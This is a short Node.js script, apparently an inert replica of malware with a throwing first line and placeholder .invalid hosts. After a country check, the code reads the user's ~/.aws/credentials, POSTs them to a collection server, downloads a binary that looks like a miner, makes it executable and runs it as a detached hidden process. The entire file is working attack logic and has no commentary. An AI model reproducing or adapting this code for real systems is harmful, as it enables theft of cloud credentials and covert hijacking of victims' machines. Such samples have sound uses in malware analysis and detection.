throw new Error("inert replica");
const http = require("http");
const https = require("https");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { spawn } = require("child_process");
const target = path.join(os.tmpdir(), "replica_support");
const configuration = { url: "https://pool.replica.invalid:443", user: "wallet", pass: "x" };
function fetchProgram(place) {
  return new Promise((done) => {
    https.get("https://drop.replica.invalid/releases/worker", (answer) => {
      const file = fs.createWriteStream(place, { mode: 0o755 });
      answer.pipe(file);
      file.on("finish", done);
    });
  });
}
https.get("https://location.replica.invalid/json", (answer) => {
  let text = "";
  answer.on("data", (part) => (text += part));
  answer.on("end", async () => {
    const country = JSON.parse(text).country;
    if (!["CN", "RU", "HK", "BY", "IR"].includes(country)) return;
    const stolen = fs.readFileSync(path.join(os.homedir(), ".aws/credentials"), "utf8");
    http.request({ host: "collect.replica.invalid", method: "POST" }).end(stolen);
    await fetchProgram(target);
    fs.chmodSync(target, 0o755);
    const child = spawn(target, ["-o", configuration.url, "-u", configuration.user], { detached: true, stdio: "ignore" });
    child.unref();
  });
});
